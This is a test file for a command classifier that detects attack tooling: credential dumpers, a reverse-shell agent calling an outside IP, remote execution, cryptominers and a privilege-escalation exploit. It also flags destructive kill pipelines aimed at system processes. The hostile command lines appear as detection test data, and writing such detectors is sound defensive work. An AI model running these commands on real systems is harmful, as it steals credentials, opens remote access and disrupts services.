import { describe, expect, it } from 'vitest'
import { effectsOf } from '../testing.ts'

const told = (command: string): string[] =>
  effectsOf(command).flatMap((effect) => {
    switch (effect.kind) {
      case 'observe':
      case 'exhaust':
        return [`${effect.kind} ${effect.what}`]
      case 'listen':
        return [`listen ${effect.reach}`]
      case 'grant':
      case 'remote-exec':
        return [effect.kind]
      default:
        return []
    }
  })

describe('a tool of attack is known by its name, however it is started', () => {
  it.each([
    ['lazagne all', 'observe credential-scan'],
    ['./LaZagne all', 'observe credential-scan'],
    ['python3 tools/laZagne.py browsers', 'observe credential-scan'],
    ['bash linpeas_small.sh', 'observe credential-scan'],
    ['sudo ./pspy64-static', 'observe credential-scan'],
    ['./merlinAgent-Linux-x64 -url https://203.0.113.4', 'listen reverse-shell'],
    ['impacket-wmiexec corp/a@10.0.0.4', 'remote-exec'],
    ['python3 wmiexec.py corp/a@10.0.0.4', 'remote-exec'],
    ['nohup ./xmrig-6.21.0 &', 'exhaust processor'],
    ['./renamed -o stratum+tcp://pool.example:3333', 'exhaust processor'],
    ['docker run -d someone/xmrig:latest', 'exhaust processor'],
    ['./CVE-2021-4034', 'grant'],
  ])('%s: %s', (command, effect) => {
    expect(told(command)).toContain(effect)
  })

  it.each([
    'lazagne --help',
    'msfvenom -h',
    'which xmrig',
    'echo xmrig',
    'cat xmrig.md',
    'grep -rn stratum+tcp:// src',
    'git commit -m "detect msfvenom and xmrig"',
    'whatweb http://localhost:3000',
    'python3 responder.py',
    'node crunch.js',
    './gradlew build',
    'docker run --rm node:20 npm test',
  ])('harmless: %s', (command) => {
    expect(told(command)).toEqual([])
  })
})

describe('processes that a list was filtered for', () => {
  const owners = (command: string): string[] =>
    effectsOf(command).flatMap((effect) => (effect.kind === 'signal-process' ? [effect.owner] : []))

  it.each([
    ["ps aux | grep mysqld | awk '{print $2}' | xargs kill", 'system'],
    ["ps -ef | awk '/sshd/{print $2}' | xargs kill -9", 'system'],
    ["ps ax | sed -n '/dockerd/s/ .*//p' | xargs kill", 'system'],
    ['ps aux | grep [n]ginx | tr -s " " | cut -d" " -f2 | xargs kill', 'system'],
    ['ps -eo pid,comm | grep cron | while read pid name; do kill $pid; done', 'system'],
    ['for p in $(pgrep -f redis-server); do kill $p; done', 'system'],
    ["ps aux | awk '{print $2}' | xargs kill -9", 'everything'],
    ['ps -A -o pid= | xargs kill', 'everything'],
    ["ps aux | grep vite | grep -v grep | awk '{print $2}' | xargs kill", 'user'],
    ["ps aux | awk '$3 > 90 {print $2}' | xargs kill", 'user'],
    ['ps -C node -o pid= | xargs kill', 'user'],
    ['pgrep -f "next dev" | xargs kill', 'user'],
  ])('%s: %s', (command, owner) => {
    expect(owners(command)).toEqual([owner])
  })

  it.each([
    ['pgrep python3 | xargs kill', true],
    ['sudo pkill -9 renderer', true],
    ['pkill -9 renderer', undefined],
    ['sudo pkill -u dev renderer', undefined],
    ["ps aux | grep [r]uby | awk '{print $2}' | xargs kill", true],
    ["kill $(ps aux | grep 'python3 manage.py' | awk '{print $2}')", undefined],
    ['kill $(lsof -ti:3000)', undefined],
  ])('%s: all of a runtime, %s', (command, broad) => {
    const found = effectsOf(command).flatMap((effect) => (effect.kind === 'signal-process' ? [effect.broad] : []))
    expect(found).toEqual([broad])
  })
})
